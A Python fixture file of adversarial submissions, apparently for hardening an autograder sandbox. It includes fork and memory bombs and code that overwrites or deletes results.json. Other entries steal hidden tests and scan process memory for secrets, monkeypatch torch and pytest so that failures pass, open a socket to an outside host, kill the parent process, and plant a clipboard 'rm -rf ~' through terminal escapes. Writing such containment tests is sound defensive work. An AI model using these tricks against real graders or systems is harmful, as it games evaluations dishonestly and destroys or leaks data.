"""One tiny submission per attack on the grader.

Every submission has an honest ``good.py`` and a ``bad.py`` whose ``victim``
function (or whose import) attacks. The suite (see conftest.py) gives 1 point
each to: ``good.double`` before, ``bad.victim`` (must return 2x), ``good.double``
after, and a hidden test. An honest failing submission scores 3 of 4; every
attack must score exactly that, leave results.json valid, and not achieve its
side effect. ``{placeholders}`` are filled in per run (paths, ports, markers).
"""

from __future__ import annotations

from dataclasses import dataclass, field

GOOD = "def double(x):\n    return x * 2\n"


@dataclass(frozen=True)
class Attack:
    name: str
    bad: str
    side_effects: tuple[str, ...] = field(default=())  # which side-effect checks apply
    why: str = ""
    # whether containment depends on who the worker runs as (files, processes, memory, network):
    # such attacks run as root and as a non-root user by default, the others as non-root only with -m slow
    depends_on_user: bool = False


ATTACKS = [
    Attack("honest_failure", "def victim(x):\n    return x * 3\n", why="the baseline: a wrong answer"),
    Attack("syntax_error", "def victim(x)\n    return x * 2\n"),
    Attack("import_exception", "raise RuntimeError('at import')\ndef victim(x):\n    return x * 2\n"),
    Attack("sys_exit_at_import", "import sys\nsys.exit(0)\n"),
    Attack("os_exit_at_import", "import os\nos._exit(0)\n"),
    Attack("sys_exit_in_call", "import sys\ndef victim(x):\n    sys.exit(0)\n"),
    Attack("os_exit_in_call", "import os\ndef victim(x):\n    os._exit(0)\n"),
    Attack("infinite_loop", "def victim(x):\n    while True:\n        pass\n"),
    Attack("fork_bomb", """
import os, time
def victim(x):
    children = 0
    for _ in range(100000):
        try:
            if os.fork() == 0:
                try:
                    os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600", {sentinel!r}])
                finally:
                    os._exit(0)
            children += 1
        except OSError:
            break
    return x * 3
""", side_effects=("no_leftover_processes",), depends_on_user=True),
    Attack("memory_bomb", """
def victim(x):
    hog = []
    while True:
        hog.append(bytearray(256 * 2**20))
""", depends_on_user=True),
    Attack("print_100mb", """
import sys
def victim(x):
    for _ in range(100):
        sys.stdout.write("x" * 2**20)
    return x * 3
""", side_effects=("small_results",)),
    Attack("write_results", """
import os
def victim(x):
    for path in ({results!r}, "/autograder/results/results.json"):
        try:
            with open(path, "w") as fh:
                fh.write('{{"score": 1000, "tests": []}}')
        except OSError:
            pass
    for name in ("pwned.txt",):
        try:
            open(os.path.join({results_dir!r}, name), "w").write("pwned")
        except OSError:
            pass
    return x * 3
""", side_effects=("results_untouched",), depends_on_user=True),
    Attack("delete_results", """
import os, shutil
def victim(x):
    for path in ({results!r}, os.path.join({results_dir!r}, "keep.txt"), "/autograder/results/results.json"):
        try:
            os.remove(path)
        except OSError:
            pass
    shutil.rmtree({results_dir!r}, ignore_errors=True)
    return x * 3
""", side_effects=("results_untouched",), depends_on_user=True),
    Attack("read_reference_and_hidden_tests", """
import glob
def victim(x):
    stolen = []
    for pattern in ({reference_glob!r}, {hidden_glob!r}, "/autograder/source/**/*.py"):
        for path in glob.glob(pattern, recursive=True):
            try:
                stolen.append(open(path).read())
            except OSError:
                pass
    print("STOLEN:", stolen)
    raise ValueError("STOLEN: " + repr(stolen))
""", side_effects=("no_secrets",), depends_on_user=True),
    Attack("search_own_memory", """
import os, re, sys
def victim(x):
    # A worker forked from the grading process (grader.sandbox.forkserver) holds a copy of that process's memory.
    found = ["LEAKED-MODULE:" + name for name in list(sys.modules)
             if name.split(".")[0] in ("reference", "test_hidden", "redteam") or ".hidden" in name]
    pattern = re.compile(rb"SECRET-[0-9a-f]{{32}}")
    import ctypes
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: a uid change made /proc/self/mem root's
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] not in ("[heap]", "[stack]")):
                continue  # file-backed text and data: the libraries, not what the grader held
            start, end = (int(v, 16) for v in fields[0].split("-"))
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found += [m.decode() for m in pattern.findall(data)]
    raise ValueError("FOUND: " + repr(sorted(set(found))[:20]))
""", side_effects=("no_grader_state",),
           why="a forked worker reads its own memory for the reference, the hidden tests or their modules"),
    Attack("patch_torch_allclose_at_import", """
import torch, torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
def victim(x):
    return x * 3
"""),
    Attack("patch_import_and_pytest", """
import builtins
_real = builtins.__import__
def _evil(name, *args, **kwargs):
    module = _real(name, *args, **kwargs)
    if name.startswith("_pytest") or name == "pytest":
        try:
            module.fail = lambda *a, **k: None
        except Exception:
            pass
    return module
builtins.__import__ = _evil
try:
    import _pytest.outcomes, _pytest.runner, pytest
    _pytest.outcomes.fail = lambda *a, **k: None
    pytest.fail = lambda *a, **k: None
except Exception:
    pass
def victim(x):
    return x * 3
"""),
    Attack("tensor_subclass", """
import torch
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    def allclose(self, *a, **k):
        return True
def victim(x):
    return (x * 3).as_subclass(Liar)
"""),
    Attack("lying_object", """
class Liar:
    def __eq__(self, other):
        return True
    def __len__(self):
        return 2
    def __getattr__(self, name):
        return self
    def __call__(self, *a, **k):
        return self
def victim(x):
    return Liar()
"""),
    Attack("nan", "def victim(x):\n    return x * float('nan')\n"),
    Attack("wrong_dtype", "import torch\ndef victim(x):\n    return (x * 2).to(torch.float64)\n"),
    Attack("wrong_device", "import torch\ndef victim(x):\n    return torch.empty(2, device='meta')\n"),
    Attack("huge_tensor", "import torch\ndef victim(x):\n    return torch.ones(300 * 2**20 // 4)\n"),
    Attack("open_socket", """
import socket
def victim(x):
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            with socket.create_connection((host, {port}), timeout=2) as conn:
                conn.sendall(b"PWNED")
        except OSError:
            pass
    return x * 3
""", side_effects=("no_connection",), depends_on_user=True),
    Attack("subprocess_outlives_call", """
import subprocess
def victim(x):
    subprocess.Popen(["/bin/sh", "-c", "sleep 4; echo pwned > {sentinel}"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return x * 3
""", side_effects=("no_sentinel",), depends_on_user=True),
    Attack("kill_parent", """
import os, signal
def victim(x):
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return x * 3
""", depends_on_user=True),
    Attack("terminal_escapes", """
import sys
print("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b[?1049h\\x00")
def victim(x):
    sys.stderr.write("\\x1b[31mred\\x1b[0m\\r\\x08\\x00")
    raise ValueError("\\x1b]52;c;cm0gLXJmIH4K\\x07 in the message")
""", side_effects=("no_control_characters",), why="clear screen, title, clipboard write, alternate screen"),
]
